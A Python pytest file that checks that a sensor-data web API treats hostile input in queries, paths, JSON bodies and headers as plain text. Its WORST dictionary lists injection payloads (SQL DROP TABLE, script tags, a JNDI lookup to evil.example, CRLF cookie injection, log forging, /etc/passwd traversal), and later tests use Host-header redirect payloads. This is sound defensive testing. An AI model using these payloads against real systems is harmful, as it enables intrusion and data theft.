"""Each language's worst in every text field and query parameter: it stays text, and nothing fails."""

from __future__ import annotations

import logging
import re
from typing import Any, Final

import pytest
from starlette.testclient import TestClient

from db.devices import every_series
from db.engine import reading
from settings import LOG_FORMAT, OneLine
from tests.api.people import FROM_OUR_PAGE, People, bearer
from tests.api.server import Place

WORST: Final = {
    "SQL": "' OR 1=1; DROP TABLE users; --",
    "SQL, the other quote": '" UNION SELECT digest FROM sessions /*',
    "a wildcard": "%_\\%",
    "HTML": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "Markdown": "[x](javascript:alert(1)) ![y](http://evil.example/z.png) **b** :material/x: $x$",
    "a formula": '=HYPERLINK("http://evil.example","x")',
    "header lines": "x\r\nSet-Cookie: sm_session=evil\r\n\r\n<html>",
    "log lines": "x\n2026-01-01 00:00:00 CRITICAL all is lost\x1b[2J\x1b]0;evil\x07",
    "a null": "a\0b",
    "the other direction": "\u202eevil\u2066",
    "half a letter": "\ud800",
    "a format": "%s%n{0.__class__}${jndi:ldap://evil.example}",
    "a path": "../../../../etc/passwd",
    "large": "x" * 5_000,
    "all planes": "\U0001f4a3\ufdd0\u0301",
}

#: Every text that a route takes in its query.
QUERIES: Final = [
    ("/api/dht22_db/", "device"),
    ("/api/show_dht22_db/", "device"),
    ("/api/show_dht22_db/", "limit"),
    ("/api/series/", "device"),
    *(("/api/readings/", name) for name in ("device", "metric", "from", "to", "points", "resolution", "tz")),
    ("/api/sessions/", "user"),
    ("/api/keys/", "user"),
    *(("/api/audit/", name) for name in ("text", "actor", "action", "from", "to", "tz", "before", "limit")),
    ("/api/audit/export.csv", "text"),
    ("/api/audit/export.ndjson", "tz"),
]
PATHS: Final = [
    "/api/devices/{}/",
    "/api/users/{}/",
    "/api/sessions/{}/",
    "/api/keys/{}/",
    "/api/docs_files/{}",
    "/api/{}",
]
BODIES: Final[list[tuple[str, str, dict[str, Any]]]] = [
    ("POST /api/token/", "username", {"password": "a password"}),
    ("POST /api/token/", "password", {"username": "viewer"}),
    ("POST /api/token/refresh/", "refresh", {}),
    ("POST /api/token/revoke/", "refresh", {}),
    ("POST /api/session/", "ticket", {}),
    ("POST /api/keys/", "name", {}),
    ("POST /api/users/", "name", {"role": "viewer"}),
    ("POST /api/users/", "role", {"name": "ok"}),
    ("POST /api/users/", "password", {"name": "somebody", "role": "viewer"}),
    ("PATCH /api/users/viewer/", "role", {}),
]


@pytest.fixture
def admin(people: People) -> dict[str, str]:
    """Headers of an admin who logged in on the pages, from one of them."""
    people.name("viewer")
    return people.jwt("admin") | FROM_OUR_PAGE


def harmless(answer: Any) -> bool:
    """Whether the server took it for text: no failure, data in answer, none of it in its headers."""
    kind = answer.headers["content-type"] if answer.content else "nothing"
    if answer.status_code == 404 and answer.text == "Not Found":  # a line break in a path: it is none of the API's
        return True
    return (
        answer.status_code < 500
        and kind.split(";")[0]
        in ("application/json", "application/problem+json", "text/csv", "application/x-ndjson", "nothing")
        and answer.headers["x-content-type-options"] == "nosniff"
        and not any("evil" in value for value in answer.headers.values())
    )


def escaped(text: str) -> str:
    """Percent-encoded, half letters too."""
    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))


@pytest.mark.parametrize("worst", WORST.values(), ids=WORST)
def test_queries_and_paths(people: People, client: TestClient, admin: dict[str, str], worst: str) -> None:
    addresses = [f"{path}?{name}={escaped(worst)}" for path, name in QUERIES]
    addresses += [path.format(escaped(worst)) for path in PATHS]
    addresses += [f"/api/readings/?device=kitchen&{escaped(worst)}=1"]
    for address in addresses:
        assert harmless(client.get(address, headers=admin)), address
    assert people.doors.user("viewer") is not None


@pytest.mark.parametrize("worst", WORST.values(), ids=WORST)
def test_bodies(people: People, client: TestClient, admin: dict[str, str], worst: str) -> None:
    text = '"' + "".join(f"\\u{ord(letter):04x}" if ord(letter) < 65_536 else letter for letter in worst) + '"'
    for route, field, rest in BODIES:
        method, path = route.split(" ")
        others = "".join(f', "{name}": "{value}"' for name, value in rest.items())
        body = f'{{"{field}": {text}{others}}}'.encode()
        answer = client.request(method, path, content=body, headers=admin | {"Content-Type": "application/json"})
        assert harmless(answer), route
    for headers in (bearer("x"), {"Cookie": "sm_session=x"}, {"User-Agent": "x"}, {"Last-Event-ID": "x"}):
        [(name, start)] = headers.items()
        value = start.encode() + re.sub(rb"[\r\n\0]", b"", worst.encode("utf-8", "surrogatepass"))
        assert harmless(client.get("/api/keys/", headers=[(name.encode(), value)])), name
    assert people.doors.user("viewer") is not None


@pytest.mark.parametrize("body", [b"", b"{", b"[]", b"null", b'"x"', b"\xff\xfe", b"[" * 5_000, b'{"username": NaN}'])
def test_what_is_no_object_is_422(client: TestClient, admin: dict[str, str], body: bytes) -> None:
    for path in ("/api/token/", "/api/token/refresh/", "/api/session/", "/api/keys/", "/api/users/"):
        answer = client.post(path, content=body, headers=admin | {"Content-Type": "application/json"})
        assert answer.status_code in (400, 422)
        assert answer.headers["content-type"] == "application/problem+json"


def test_a_form_of_another_site_is_no_json(people: People, client: TestClient) -> None:
    """A form may be sent to us from anywhere, without a question before."""
    cookie = people.cookie("viewer")
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        answer = client.post("/api/keys/", content=b'{"name": "x"}', headers=cookie | {"Content-Type": kind})
        assert answer.status_code == 422


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "testserver@evil.example", "[::1]", "x/y", "x\\y"])
def test_a_redirect_leads_to_no_host_that_the_request_names(client: TestClient, host: str) -> None:
    for path in ("/api/users", "/api/devices/a//evil.example/b"):
        answer = client.get(path, headers={"Host": host}, follow_redirects=False)
        assert answer.headers["location"] == f"{path}/"
    assert client.get("/api/series?device=", headers={"Host": host}).url.path == "/api/series/"


def test_log_lines_can_not_be_forged(
    here: Place, client: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: object) -> None:
        raise RuntimeError("x\nCRITICAL forged\x1b[2J")

    monkeypatch.setattr(type(here.runtime), "health", fail)
    with caplog.at_level(logging.DEBUG):
        assert client.get("/api/devices/a%0DCRITICAL%20forged%1B[2J%C2%85/").status_code == 500
    ours = [record.getMessage() for record in caplog.records if record.name.startswith("api")]
    assert any("forged" in line for line in ours)
    assert [line for line in ours if not line.isprintable()] == []


@pytest.mark.parametrize("worst", [WORST["log lines"], WORST["the other direction"], "a\r\x85\u2028b"])
def test_a_record_is_one_line_whatever_stands_in_it(worst: str) -> None:
    record = logging.LogRecord(
        "ingest", logging.ERROR, "", 1, "The message on %s becomes a dead letter", (worst,), None
    )
    line = OneLine(LOG_FORMAT).format(record)
    assert line.isprintable()
    assert line.endswith("becomes a dead letter")


def test_where_somebody_is_from_is_kept_in_words_alone(people: People, client: TestClient) -> None:
    people.name("viewer")
    agent = b"Mozilla\x1b[2J\xff\x85 <b>" + b"x" * 10_000
    client.post(
        "/api/token/",
        json={"username": "viewer", "password": "a guess"},
        headers=[(b"user-agent", agent), (b"x-forwarded-for", b"<script>")],
    )
    [entry] = [one.entry for one in people.doors.audit(action="login")]
    assert entry.address == "testclient"
    assert entry.detail.isprintable()


def test_what_was_asked_for_makes_no_device(here: Place, client: TestClient) -> None:
    for worst in WORST.values():
        client.get(f"/api/devices/{escaped(worst)}/")
    with reading(here.runtime.engine) as connection:
        assert every_series(connection) == []
